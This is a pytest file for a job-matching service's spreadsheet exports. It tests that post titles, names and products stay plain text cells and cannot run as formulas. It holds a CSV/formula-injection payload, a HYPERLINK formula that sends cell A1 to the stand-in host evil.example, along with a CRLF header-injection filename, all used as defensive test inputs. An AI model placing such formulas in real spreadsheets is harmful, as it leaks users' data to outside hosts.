"""Every workbook the service writes keeps text as text: no cell of ours is ever a formula.

A post title, a firm, cohort or trainee name, or a product typed as ``=HYPERLINK(...)`` (or
starting with +, -, @, a tab or a carriage return, which spreadsheet programs also read as a
formula or strip) must come back from each export exactly as stored, in a string cell.
"""

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from jobmatch.spreadsheets import XLSX_MIMETYPE, write_row, xlsx_response
from tests.factories import (
    auth_headers,
    make_cohort,
    make_delivery,
    make_enrollment,
    make_firm,
    make_order,
    make_post,
    make_quick_user,
    make_resident,
)

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"点我")'


def payload(prefix: str, size: int = 60) -> str:
    return (prefix + ATTACK)[:size]


def cells(response) -> list:
    """Every cell of every sheet of the downloaded workbook."""
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == XLSX_MIMETYPE
    book = load_workbook(BytesIO(response.data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_cell(response, value: str) -> None:
    matching = [cell for cell in cells(response) if cell.value == value]
    assert matching, f"{value!r} not found as written"
    assert all(cell.data_type == "s" for cell in matching)


@pytest.fixture
def staff(app):
    return auth_headers(make_quick_user("admin"))


@pytest.mark.parametrize("write_only", [False, True])
def test_the_writer_keeps_every_string_a_string(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    values = [payload(prefix) for prefix in PREFIXES] + ["a\r\nb", "1", "=1+1"]
    write_row(sheet, [*values, 7, Decimal("1.50"), date(2026, 1, 2)])
    response = xlsx_response(book, "名册.xlsx")
    row = next(load_workbook(BytesIO(response.data)).worksheets[0].iter_rows())
    assert [(cell.value, cell.data_type) for cell in row[: len(values)]] == [
        (value, "s") for value in values
    ]
    assert [cell.value for cell in row[len(values) :]] == [7, 1.5, datetime(2026, 1, 2)]
    assert row[-1].is_date


def test_control_characters_that_xml_refuses_are_left_out():
    book = Workbook()
    write_row(book.active, ["甲\x00乙\x01丙\x1f", "tab\tkept"])
    row = next(load_workbook(BytesIO(xlsx_response(book, "x.xlsx").data)).active.iter_rows())
    assert [cell.value for cell in row] == ["甲乙丙", "tab\tkept"]


def test_a_download_name_cannot_break_the_header():
    response = xlsx_response(Workbook(), '班级"\r\n名册.xlsx')
    disposition = response.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.startswith("attachment; filename=\".xlsx\"; filename*=UTF-8''")


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_report_workbooks_keep_titles_and_names_as_text(client, staff, prefix):
    firm = make_firm(name=payload(prefix, 30))
    make_post(firm, title=payload(prefix), openings=2, filled=1)
    for url in ("/api/reports/time-to-fill?format=xlsx", "/api/reports/workbook.xlsx"):
        response = client.get(url, headers=staff)
        assert_text_cell(response, payload(prefix))
    response = client.get("/api/reports/filled-by-firm?format=xlsx", headers=staff)
    assert_text_cell(response, payload(prefix, 30))


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_subsidy_claim_roster_keeps_names_as_text(client, staff, prefix):
    cohort = make_cohort(hours=100, name=payload(prefix))
    trainee = make_resident(name=payload(prefix, 20))
    make_enrollment(
        cohort, trainee, status="completed", passed=True, hours_attended=100,
        completed_on=cohort.ends_on,
    )  # fmt: skip
    response = client.get(f"/api/cohorts/{cohort.id}/subsidy?format=xlsx", headers=staff)
    assert_text_cell(response, payload(prefix, 20))
    assert_text_cell(response, payload(prefix))


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_paysheet_keeps_names_and_products_as_text(client, staff, prefix):
    order = make_order(product=payload(prefix), unit_rate=Decimal("1.00"))
    worker = make_resident(name=payload(prefix, 20))
    make_delivery(order, worker, quantity=5, delivered_on=date(2025, 4, 2))
    response = client.get("/api/paysheet?from=2025-04-01&to=2025-04-30&format=xlsx", headers=staff)
    assert_text_cell(response, payload(prefix, 20))
    assert_text_cell(response, payload(prefix))


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_the_roster_export_keeps_names_as_text(client, staff, prefix):
    make_resident(name=payload(prefix, 20))
    response = client.get("/api/residents/export", headers=staff)
    assert_text_cell(response, payload(prefix, 20))


def test_a_stored_control_character_does_not_stop_an_export(client, staff):
    cohort = make_cohort(hours=100, name="一期\x07")
    make_enrollment(
        cohort, make_resident(name="张\x01三"), status="completed", passed=True,
        hours_attended=100, completed_on=cohort.ends_on,
    )  # fmt: skip
    response = client.get(f"/api/cohorts/{cohort.id}/subsidy?format=xlsx", headers=staff)
    assert_text_cell(response, "张三")
    response = client.get("/api/residents/export", headers=staff)
    assert_text_cell(response, "张三")
